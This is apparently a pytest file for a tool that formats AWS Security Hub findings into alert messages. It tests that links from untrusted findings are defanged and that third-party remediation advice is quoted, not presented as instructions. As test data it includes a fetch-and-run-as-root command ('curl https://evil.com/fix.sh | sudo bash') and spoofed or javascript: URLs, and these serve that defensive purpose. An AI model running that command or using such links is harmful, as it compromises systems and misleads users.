"""What is not AWS's is named as what it is: quoted, without links in subject, lead and HOW, its advice among the facts."""

from __future__ import annotations

import pytest

from formatter.memory.records import Ending, Kind
from harness.findings import NOW, finding, told
from harness.message_rules import LINKED, assert_only_our_sections

OWN = "arn:aws:securityhub:eu-west-1:111122223333:product/111122223333/default"
ATTACK = "curl https://evil.com/fix.sh | sudo bash"
LINKS = (
    "https://evil.com/x",
    "http://evil.com",
    "javascript:alert(1)",
    "https://console.aws.amazon.com@evil.com/",
    "https://user:pass@evil.com",
    "https://xn--80ak6aa92e.com",
    "www.evil.com",
    "evil.com",
    "joe@evil.com",
)


def parts(body: str) -> tuple[str, str]:
    """Return what stands before the facts, without the lines that are links of ours, and what stands from there on."""
    before, _, after = body.partition("\nFACTS\n")
    kept = (line for line in before.splitlines() if not line.startswith("  https://"))
    return "\n".join(kept), after


@pytest.mark.parametrize("link", LINKS)
def test_no_link_of_a_stranger_stands_before_the_facts(link: str) -> None:
    hostile = finding(
        ProductArn=OWN,
        ProductName=f"Security Hub {link}",
        CompanyName="AWS",
        Title=f"Look at {link}",
        Description=f"Look at {link}",
        AwsAccountName=link,
        Region=link,
        Types=[link],
        Id=link,
        SourceUrl=link,
        Note={"Text": link, "UpdatedBy": link},
        Resources=[{"Type": link, "Id": link}],
        Compliance={"Status": "FAILED", "SecurityControlId": link, "StatusReasons": [{"Description": link}]},
        Remediation={"Recommendation": {"Text": f"{ATTACK} {link}", "Url": link}},
        Network={"SourceIpV4": link, "SourceDomain": link},
        Process={"Name": link, "Path": link},
        Malware=[{"Name": link, "Path": link}],
    )
    for kind in (Kind.NEW, Kind.CUSTOM_ACTION, Kind.REMINDER):
        message = told(hostile, kind, custom_action=link)
        before, _ = parts(message.body)
        assert not LINKED.search(message.subject)
        assert not LINKED.search(before), before
        assert "sudo bash" not in before
        assert_only_our_sections(message)


def test_nothing_in_a_persons_note_or_reason_becomes_a_link() -> None:
    ending = Ending(NOW, is_proven=True, reason="Its status was set to RESOLVED. Note: see https://evil.com")
    message = told(finding(), Kind.RESOLVED, ending=ending)
    assert message.body.startswith("Resolved. Its status was set to RESOLVED. Note: see https[:]//evil[.]com\n")


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("https://scanner.example.com/1", "(outside AWS: look before you open it):\n  https://scanner.example.com/1"),
        ("https://docs.aws.amazon.com/x", "Page that the finding names:\n  https://docs.aws.amazon.com/x"),
        ("javascript:alert(1)", '(not shown as a link: it is no plain https address): "javascript[:]alert(1)"'),
        ("https://a@evil.com/", '(not shown as a link: it is no plain https address): "https[:]//a[at]evil[.]com/"'),
    ],
)
def test_an_address_of_a_finding_is_a_link_only_where_that_is_safe(url: str, shown: str) -> None:
    body = told(finding(ProductArn=OWN, SourceUrl=url)).body
    assert shown in body.partition("\nLINKS\n")[2]


def test_what_calls_itself_aws_is_told_as_imported() -> None:
    fake = finding(ProductArn=OWN, ProductName="Security Hub", CompanyName="AWS", Title='MFA" is off')
    message = told(fake)
    assert message.subject.startswith("[CRITICAL] imported 111122223333: MFA")
    assert '\n  What: "MFA\' is off"\n' in message.body
    assert '\n  Found by: "AWS Security Hub", which is not AWS' in message.body
    assert "AWS's instructions" not in message.body


def test_a_strangers_advice_is_quoted_among_the_facts() -> None:
    body = told(finding(ProductArn=OWN, Remediation={"Recommendation": {"Text": ATTACK}})).body
    before, after = parts(body)
    assert "sudo bash" not in before
    assert f"\n  | {ATTACK}\n" in after


def test_the_command_to_take_it_on_is_left_out_where_an_id_could_be_a_link() -> None:
    arn = "arn:aws:securityhub:eu-west-1::product/aws/securityhub"
    assert "batch-update-findings" in told(finding(ProductArn=arn, Id="arn:f")).body
    assert (
        "batch-update-findings" not in told(finding(ProductArn=arn, Id="https://evil.com")).body.partition("FACTS")[0]
    )
